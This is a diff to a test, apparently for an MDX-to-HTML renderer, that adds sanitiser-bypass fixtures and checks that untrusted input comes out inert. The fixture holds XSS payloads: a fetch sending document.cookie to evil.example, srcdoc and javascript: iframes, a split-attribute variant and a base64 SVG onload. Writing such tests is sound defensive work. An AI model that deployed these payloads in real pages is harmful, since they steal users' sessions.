@@ -214,6 +214,13 @@ Text {fetch("https://evil.example/" + document.cookie)} and `{kept in code}`.
 
 <iframe srcdoc="<script>steal()</script>" src="javascript:steal()"></iframe>
 
+<iframe
+  srcdoc
+  ="<script>steal()</script>" src=
+  "javascript:steal()" title="split"></iframe>
+
+<iframe src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></iframe>
+
 See <Link href="other.md">the other page</Link>, [a script](tool.js) and [a style](look.css).
 
 ```js
@@ -258,7 +265,8 @@ def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) ->
     # an iframe stays, as on the upstream's site, without a document of its own
     assert ('<iframe src="https://www.youtube.com/embed/x" title="A video" allowfullscreen>'
             "</iframe>") in page
-    assert "srcdoc" not in page and '<iframe src="#"></iframe>' in page
+    assert "srcdoc" not in page and page.count('<iframe src="#"></iframe>') == 2
+    assert '"#" title="split"></iframe>' in page and "data:image" not in page
     for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:", "<img",
                    "srcdoc"):
         line = next(i for i, text in enumerate(lines, 1) if needle in text)
